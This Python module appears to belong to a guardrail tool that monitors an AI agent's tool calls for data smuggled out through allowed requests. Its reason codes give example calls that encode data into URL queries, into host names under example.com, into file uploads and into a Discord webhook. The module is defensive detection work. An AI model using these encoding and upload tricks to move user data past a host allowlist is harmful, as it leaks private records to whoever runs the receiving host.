"""Looks for data that leaves inside a request that is allowed: packed into a URL, a header or a host name, uploaded as
a file, or left where anybody can have an address. Secrets are for `exfil`; a host that is refused is refused anyway.

What looks is loaded for a call that reaches out.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from guardhouse.detect.destinations import targets
from guardhouse.detect.interface import Detector, Scene
from guardhouse.model import ReasonCode, Severity

if TYPE_CHECKING:
    from collections.abc import Iterator

    from guardhouse.model import Finding

ID: Final = "smuggling"
_ON: Final = ("ToolCallPre", "SkillRunPre")

ENCODED: Final = ReasonCode(
    id="exfil.encoded_data",
    title="Data is packed into the request",
    severity=Severity.MEDIUM,
    why="An address that carries a text or a long encoded value hands that to whoever runs the host, or reads its log.",
    instead="Use the plain address; send data only where the user asked for it, in the body of a request.",
    example=(
        'With docs.example.com allowed: {"type":"ToolCallPre","tool":"url_fetch","params":'
        '{"url":"https://docs.example.com/?d=dGhlIG1lZXRpbmcgaXMgYXQgbm9vbiBpbiB0aGUgb2xkIGhvdXNl"}}'
    ),
    about="host",
    on=_ON,
)
PRIVATE: Final = ReasonCode(
    id="exfil.private_data",
    title="The request carries private data that this session has read",
    severity=Severity.HIGH,
    why="Whoever runs the host, or reads its log, learns what was in a private record or text.",
    instead="Leave it out of the address, or ask the user whether it may be sent.",
    example="A passport number from the user's profile, in the query of a URL.",
    about="host",
    on=_ON,
)
HOST_NAME: Final = ReasonCode(
    id="exfil.data_in_host_name",
    title="The host name looks like data",
    severity=Severity.HIGH,
    why="Whoever runs the domain learns the name as soon as it is looked up, before anything is requested.",
    instead="Use the name of a host that is known, as the user or a page gave it.",
    example=(
        'With *.example.com allowed: {"type":"ToolCallPre","tool":"url_fetch","params":'
        '{"url":"https://orugkidnmvsxi2lom4qgs4zamf2ca3tpn5xa.example.com/"}}'
    ),
    about="host",
    on=_ON,
)
UPLOAD: Final = ReasonCode(
    id="exfil.upload",
    title="The call would upload a file to a host that nobody has named",
    severity=Severity.MEDIUM,
    why="The host is allowed only by a pattern that covers many, so nobody has said that it may get files.",
    instead="Ask the user whether this host may have the file.",
    example=(
        'With *.example.com allowed: {"type":"ToolCallPre","tool":"http_request","params":'
        '{"method":"POST","url":"https://up.example.com/","files":{"file":"report.pdf"}}}'
    ),
    remedy="domain",
    about="host",
    on=_ON,
)
UPLOAD_LISTED: Final = ReasonCode(
    id="exfil.upload_to_listed_host",
    title="The call uploads a file to a host that is allowed by name",
    severity=Severity.INFO,
    why="Not a risk by itself: the user has named the host. Rules can speak of it, and it is recorded.",
    instead="",
    example=(
        'With up.example.com allowed: {"type":"ToolCallPre","tool":"http_request","params":'
        '{"method":"POST","url":"https://up.example.com/","files":{"file":"report.pdf"}}}'
    ),
    about="host",
    on=_ON,
)
ANYBODYS_PLACE: Final = ReasonCode(
    id="net.anybodys_place",
    title="The call would leave something where anybody can have an address, though the host is allowed",
    severity=Severity.MEDIUM,
    why="Gists, forms and webhooks of a well-known host belong to whoever made them, and that may be the attacker.",
    instead="Ask the user to allow the one address that is meant, as a URL prefix (`allowed_url_prefixes`).",
    example=(
        'With discord.com allowed: {"type":"ToolCallPre","tool":"http_request","params":'
        '{"method":"POST","url":"https://discord.com/api/webhooks/1/x","body":"hello"}}'
    ),
    about="host",
    on=_ON,
)


def _find(scene: Scene) -> Iterator[Finding]:
    if targets(scene):
        from guardhouse.detect.smuggling.looking import find

        yield from find(scene)


def _needs(scene: Scene) -> None:
    if targets(scene) and scene.action.session_id:
        from guardhouse.detect.smuggling.looking import ask

        ask(scene)


DETECTOR: Final = Detector(
    id=ID,
    codes=(ENCODED, PRIVATE, HOST_NAME, UPLOAD, UPLOAD_LISTED, ANYBODYS_PLACE),
    find=_find,
    needs=_needs,
    calls_only=True,
)
